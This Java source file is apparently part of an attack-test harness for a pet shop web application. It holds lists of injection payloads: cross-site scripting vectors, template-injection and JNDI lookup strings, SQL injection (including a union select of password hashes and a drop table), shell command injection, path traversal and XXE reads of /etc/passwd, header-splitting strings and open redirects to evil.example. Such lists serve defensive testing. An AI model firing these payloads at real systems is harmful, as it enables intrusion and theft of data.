package kr.ilovepet.shop.attack;

import static kr.ilovepet.shop.attack.Judge.MARK;

import java.util.ArrayList;
import java.util.List;

/** What is put where somebody else's word or number belongs. */
final class Payloads {

    /** Scripts for every place of a page that a text can stand in. */
    static final List<String> SCRIPTS = List.of(
            "<script>" + MARK + "</script>",
            "<img src=x onerror=" + MARK + ">",
            "<svg/onload=" + MARK + ">",
            "<" + MARK + ">",
            "\"><img src=x onerror=" + MARK + ">",
            "'><svg onload=" + MARK + ">",
            "\" onmouseover=\"" + MARK,
            "' autofocus onfocus='" + MARK,
            "</title><script>" + MARK + "</script>",
            "</textarea><img src=x onerror=" + MARK + ">",
            "</option></select><svg onload=" + MARK + ">",
            "--><script>" + MARK + "</script>",
            "<ScRiPt>" + MARK + "</sCrIpT>",
            "<scr<script>ipt>" + MARK + "</scr</script>ipt>",
            "<img\nsrc=x\nonerror=" + MARK + ">",
            "\u0000<img src=x onerror=" + MARK + ">",
            "<img src=x onerror=&#105;lp>" + MARK,
            "%3Cimg src=x onerror=" + MARK + "%3E",
            "\u003cimg src=x onerror=" + MARK + "\u003e",
            "+ADw-img src=x onerror=" + MARK + "+AD4-",
            "javascript:" + MARK,
            "JaVaScRiPt:" + MARK,
            " javascript:" + MARK,
            "java\tscript:" + MARK,
            "data:text/html,<script>" + MARK + "</script>",
            "<a href=\"javascript:" + MARK + "\">x</a>",
            "<form action=//evil.example>" + MARK,
            "<base href=//evil.example/>" + MARK,
            "<meta http-equiv=refresh content=0;url=//evil.example>" + MARK,
            "<div hx-get=//evil.example hx-trigger=load>" + MARK);

    /** Expressions of the template engine and of languages that others use. */
    static final List<String> TEMPLATES = List.of(
            "[[${7331*7}]]",
            "[(${7331*7})]",
            "${7331*7}",
            "*{7331*7}",
            "#{7331*7}",
            "#{${7331*7}}",
            "@{${7331*7}}",
            "~{${7331*7}}",
            "__${7331*7}__",
            "__${7331*7}__::.x",
            "__${T(java.lang.Runtime).getRuntime()}__::.x",
            "|${7331*7}|",
            "{{7331*7}}",
            "<%= 7331*7 %>",
            "#set($x=7331*7)$x",
            "${{7331*7}}",
            "%{7331*7}",
            "${jndi:ldap://127.0.0.1:1/a}",
            "${${::-j}ndi:ldap://127.0.0.1:1/a}",
            "{0}{1}%s%n%d");

    /** Signs that mean something to a database, a shell, a path or a protocol. */
    static final List<String> SIGNS = List.of(
            "'",
            "''",
            "\"",
            "`",
            "\\",
            "\\'",
            "%",
            "%%",
            "_",
            "' or '1'='1",
            "' or 1=1 -- ",
            "1; drop table product",
            "1' union select password_hash from member -- ",
            "' and sleep(5) -- ",
            "1 or sleep(5)#",
            "'/**/or/**/1=1#",
            "\u02bc or 1=1",
            "%27 or 1=1",
            "*",
            "?",
            ":id",
            ";",
            "`id`",
            "$(id)",
            "| id",
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "/etc/passwd",
            "file:///etc/passwd",
            "a\r\n" + MARK + ": 1",
            "a\n" + MARK + ": 1",
            "a\r\n\r\n<html>" + MARK,
            "a\r\nSet-Cookie: " + MARK + "=1",
            "\u560d\u560aSet-Cookie: " + MARK + "=1",
            "a\u2028" + MARK + ": 1",
            "a\u0000b",
            "(&(objectClass=*))",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "=1+1",
            "@SUM(1)");

    /** Where somebody may want to be led instead. */
    static final List<String> ELSEWHERE = List.of(
            "//evil.example",
            "///evil.example",
            "////evil.example/%2f..",
            "https://evil.example",
            "http:evil.example",
            "https:/evil.example",
            "\\\\evil.example",
            "/\\evil.example",
            "\\/evil.example",
            "/%09/evil.example",
            "/\t/evil.example",
            "/\r\n/evil.example",
            "/%2f%2fevil.example",
            "/.evil.example",
            "//evil.example@localhost",
            "https://localhost@evil.example",
            "https://localhost.evil.example",
            "/products/../..//evil.example",
            "/products//evil.example",
            "/\u2028/evil.example",
            "\u3002evil.example",
            "javascript:" + MARK,
            "data:text/html," + MARK,
            "/login?next=//evil.example",
            "/cart#//evil.example",
            " //evil.example",
            "//[::1]@evil.example",
            "/;@evil.example",
            "?//evil.example",
            "#//evil.example");

    private Payloads() {}

    /** All texts that mean something to somebody. */
    static List<String> meaningful() {
        List<String> all = new ArrayList<>(SCRIPTS);
        all.addAll(TEMPLATES);
        all.addAll(SIGNS);
        all.addAll(ELSEWHERE);
        return all;
    }
}
